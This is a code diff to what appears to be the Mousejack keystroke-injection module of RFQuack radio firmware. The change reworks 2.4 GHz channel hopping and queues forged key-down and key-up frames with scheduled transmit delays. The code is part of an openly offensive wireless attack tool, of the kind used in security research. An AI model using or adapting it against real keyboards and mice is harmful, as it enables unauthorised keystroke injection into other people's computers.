@@ -82,6 +82,7 @@ public:
       rfqRadio->variablePacketLengthMode(32, radioToUse);
       rfqRadio->setAutoAck(true, radioToUse);
       rfqRadio->setMode(rfquack_Mode_TX, radioToUse);
+      txDelayUs = 0;
 
 
       uint8_t meta = 0;
@@ -132,7 +133,7 @@ public:
             log_transmit(meta, keys2send, keysLen);
             keysLen = 0;
           }
-          delay(wait << 4);
+          txDelayUs += (wait << 4) * 1000;
         }
         if (i == keycount && keysLen > 0) {
           log_transmit(meta, keys2send, keysLen);
@@ -167,14 +168,17 @@ public:
     void start(rfquack_CmdReply &reply) {
       int16_t state = scanMode();
 
+      // Channels are compiled once, hops just write them.
+      state |= rfqRadio->setChannelRange(FIRST_FREQ, 1, LAST_FREQ - FIRST_FREQ + 1, radioToUse);
+
       if (state != RADIOLIB_ERR_NONE) {
         setReplyMessage(reply, F("Unable to setup radio, check logs."), state);
         return;
       }
 
       // Start scanning part.
-      currFreq = 2402;
-      lastHop = 0;
+      currChannel = 0;
+      rfqRadio->hopToChannel(currChannel, radioToUse);
       this->enabled = true;
       if (attack.size < 3) {
         setReplyMessage(reply, F("Mousejack started but no attack is configured."));
@@ -193,18 +197,20 @@ public:
       setReplyMessage(reply, F("Mousejack stopped"), result);
     }
 
-    void onLoop() override {
-      if (millis() - lastHop > 100) {
-        currFreq += 1;
-        if (currFreq > 2484) {
-          RFQUACK_LOG_TRACE(F("New frequency sweep"))
-          currFreq = 2402;
-        }
+    // Hops every 100ms.
+    RFQLoopSchedule getLoopSchedule() override {
+      return RFQLoopSchedule(100);
+    }
 
-        // Change frequency
-        rfqRadio->setFrequency(currFreq, radioToUse);
-        lastHop = millis();
+    void onLoop() override {
+      currChannel += 1;
+      if (currChannel > LAST_FREQ - FIRST_FREQ) {
+        RFQUACK_LOG_TRACE(F("New frequency sweep"))
+        currChannel = 0;
       }
+
+      // Change frequency
+      rfqRadio->hopToChannel(currChannel, radioToUse);
     }
 
 private:
@@ -292,7 +298,16 @@ private:
       rfquack_Packet pkt = rfquack_Packet_init_default;
       memcpy(pkt.data.bytes, payload, payload_size);
       pkt.data.size = payload_size;
-      rfqRadio->transmit(&pkt, radioToUse);
+
+      // Frames are scheduled one after the other, txDelayUs after the previous one (5ms by default).
+      pkt.has_txDelayUs = true;
+      pkt.txDelayUs = txDelayUs;
+      txDelayUs = 5000;
+
+      // Attacks are longer than the TX queue: send queued frames to make room.
+      while (rfqRadio->transmit(&pkt, radioToUse) == ERR_TX_QUEUE_FULL) {
+        rfqRadio->txLoop();
+      }
     }
 
     void log_transmit(uint8_t meta, uint8_t keys2send[], uint8_t keysLen) {
@@ -311,8 +326,7 @@ private:
 
       // send key down
       transmit(payload_size, payload);
-      RFQUACK_LOG_TRACE(F("Key down transmitted"));
-      delay(5);
+      RFQUACK_LOG_TRACE(F("Key down queued"));
 
       // prepare key up (null) frame
       payload[2] = 0;
@@ -326,8 +340,7 @@ private:
 
       // send key up
       transmit(payload_size, payload);
-      RFQUACK_LOG_TRACE(F("Key up transmitted"));
-      delay(5);
+      RFQUACK_LOG_TRACE(F("Key up queued"));
     }
 
     int16_t scanMode() {
@@ -344,8 +357,14 @@ private:
     }
 
     rfquack_WhichRadio radioToUse = rfquack_WhichRadio_RadioA;
-    uint16_t currFreq;
-    uint32_t lastHop = 0;
+
+    // Delay of the next frame from the previous one (us).
+    uint32_t txDelayUs = 0;
+    // Channels swept while scanning (MHz).
+    static const uint16_t FIRST_FREQ = 2402;
+    static const uint16_t LAST_FREQ = 2484;
+
+    uint16_t currChannel;
     rfquack_BytesValue_value_t attack;
 };
 